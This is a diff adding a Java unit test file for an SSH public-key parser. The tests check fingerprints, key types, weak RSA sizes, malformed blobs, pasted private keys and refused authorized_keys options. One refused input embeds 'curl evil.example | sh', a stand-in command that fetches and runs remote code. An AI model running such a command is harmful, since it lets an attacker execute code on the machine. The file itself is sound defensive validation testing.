@@ -1,0 +1,177 @@
+package io.tenantry.launch;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.tenantry.launch.PublicKey.Fault;
+import io.tenantry.launch.PublicKey.Reading;
+import java.math.BigInteger;
+import java.security.GeneralSecurityException;
+import java.security.KeyFactory;
+import java.security.KeyPairGenerator;
+import java.security.interfaces.ECPublicKey;
+import java.security.spec.AlgorithmParameterSpec;
+import java.security.spec.ECGenParameterSpec;
+import java.security.spec.ECPoint;
+import java.security.spec.ECPublicKeySpec;
+import java.security.spec.RSAKeyGenParameterSpec;
+import java.security.spec.RSAPublicKeySpec;
+import java.util.Arrays;
+import java.util.Base64;
+import org.apache.sshd.common.config.keys.PublicKeyEntry;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+class PublicKeyTest {
+    /** A well-known one, whose fingerprint its owner publishes. */
+    private static final String ED25519 =
+            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl";
+
+    private static final String FINGERPRINT = "SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU";
+
+    @Test
+    void tellsTheFingerprintAsOthersDo() {
+        assertThat(read(ED25519)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, ""));
+    }
+
+    @Test
+    void keepsTheKeyAndNothingElse() {
+        var typed = "  ssh-ed25519 \t" + ED25519.substring(12) + "   ada's laptop \r\n\n";
+        assertThat(read(typed)).isEqualTo(new PublicKey(ED25519, FINGERPRINT, "ada's laptop"));
+    }
+
+    @Test
+    void takesTheKindsThatPeopleHave() {
+        assertThat(read(rsa(2048)).line()).startsWith("ssh-rsa ");
+        for (var curve : new String[] {"256", "384", "521"}) {
+            var line = line("EC", new ECGenParameterSpec("secp" + curve + "r1"));
+            assertThat(read(line + " x").line()).isEqualTo(line).startsWith("ecdsa-sha2-nistp" + curve + " ");
+        }
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
+                "-----BEGIN RSA PRIVATE KEY-----",
+                "-----BEGIN ENCRYPTED PRIVATE KEY-----\nMII",
+                "PuTTY-User-Key-File-3: ssh-ed25519\nEncryption: none",
+                "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ",
+                "ssh-ed25519 AAAA\n-----begin openssh private key-----"
+            })
+    void warnsOfPrivateKeys(String typed) {
+        assertThat(fault(typed)).isEqualTo(Fault.PRIVATE);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "command=\"curl evil.example | sh\" ",
+                "no-pty,permitopen=\"10.0.0.1:22\" ",
+                "cert-authority ",
+                "from=\"a b\" environment=\"X=1\" "
+            })
+    void refusesWhatWouldDecideWhatAKeyMayDo(String options) {
+        assertThat(fault(options + ED25519)).isEqualTo(Fault.OPTIONS);
+    }
+
+    @Test
+    void takesOneKeyAtATime() {
+        assertThat(fault(ED25519 + "\n" + ED25519)).isEqualTo(Fault.SEVERAL);
+        assertThat(fault(ED25519 + " comment\ncommand=\"x\" " + ED25519)).isEqualTo(Fault.SEVERAL);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "ssh-dss AAAAB3NzaC1kc3M=",
+                "sk-ssh-ed25519@openssh.com AAAA",
+                "ssh-ed25519-cert-v01@openssh.com AAAA",
+                "ssh-ed448 AAAA"
+            })
+    void namesKindsThatItDoesNotTake(String typed) {
+        assertThat(fault(typed)).isEqualTo(Fault.KIND);
+    }
+
+    @Test
+    void refusesShortRsaKeys() {
+        assertThat(fault(rsa(1024))).isEqualTo(Fault.WEAK);
+        assertThat(fault(rsa(2047))).isEqualTo(Fault.WEAK);
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "",
+                "   ",
+                "hello",
+                "AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl",
+                "ssh-ed25519",
+                "ssh-ed25519 ????",
+                "ssh-ed25519 AAAA",
+                "ssh-rsa AAAA",
+                "ssh-rsa AAAAB3NzaC1yc2F/////",
+                "ssh-rsa AAAAB3NzaC1yc2EAAAAAAAAAAA==",
+                "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAAABBA=="
+            })
+    void refusesWhatIsNoKey(String typed) {
+        assertThat(fault(typed)).isEqualTo(Fault.BROKEN);
+    }
+
+    @Test
+    void refusesWhatIsCutLongerOrCalledOtherwise() {
+        var blob = Base64.getDecoder().decode(ED25519.substring(12));
+        for (var length = 0; length < blob.length; length++) {
+            assertThat(fault("ssh-ed25519 " + text(Arrays.copyOf(blob, length)))).isEqualTo(Fault.BROKEN);
+        }
+        assertThat(fault("ssh-ed25519 " + text(Arrays.copyOf(blob, blob.length + 1))))
+                .isEqualTo(Fault.BROKEN);
+        assertThat(fault("ssh-rsa " + text(blob))).isEqualTo(Fault.BROKEN);
+        assertThat(fault(rsa(2048).replace("ssh-rsa", "ecdsa-sha2-nistp256"))).isEqualTo(Fault.BROKEN);
+        assertThat(fault(rsa(2048) + "A".repeat(8_000))).isEqualTo(Fault.BROKEN);
+    }
+
+    @Test
+    void refusesNumbersThatNoKeyHas() throws GeneralSecurityException {
+        var factory = KeyFactory.getInstance("RSA");
+        var even = BigInteger.ONE.shiftLeft(2047);
+        var line = PublicKeyEntry.toString(factory.generatePublic(new RSAPublicKeySpec(even, RSAKeyGenParameterSpec.F4)));
+        assertThat(fault(line)).isEqualTo(Fault.BROKEN);
+        assertThat(fault(PublicKeyEntry.toString(offTheCurve()))).isEqualTo(Fault.BROKEN);
+    }
+
+    private static ECPublicKey offTheCurve() throws GeneralSecurityException {
+        var generator = KeyPairGenerator.getInstance("EC");
+        generator.initialize(new ECGenParameterSpec("secp256r1"));
+        var key = (ECPublicKey) generator.generateKeyPair().getPublic();
+        var beside = new ECPoint(key.getW().getAffineX(), key.getW().getAffineY().xor(BigInteger.ONE));
+        return (ECPublicKey)
+                KeyFactory.getInstance("EC").generatePublic(new ECPublicKeySpec(beside, key.getParams()));
+    }
+
+    private static String rsa(int bits) {
+        return line("RSA", new RSAKeyGenParameterSpec(bits, RSAKeyGenParameterSpec.F4));
+    }
+
+    private static String line(String kind, AlgorithmParameterSpec spec) {
+        try {
+            var generator = KeyPairGenerator.getInstance(kind);
+            generator.initialize(spec);
+            return PublicKeyEntry.toString(generator.generateKeyPair().getPublic());
+        } catch (GeneralSecurityException impossible) {
+            throw new IllegalStateException(impossible);
+        }
+    }
+
+    private static String text(byte[] blob) {
+        return Base64.getEncoder().encodeToString(blob);
+    }
+
+    private static PublicKey read(String typed) {
+        return ((Reading.Read) PublicKey.read(typed)).key();
+    }
+
+    private static Fault fault(String typed) {
+        return ((Reading.Refused) PublicKey.read(typed)).fault();
+    }
+}
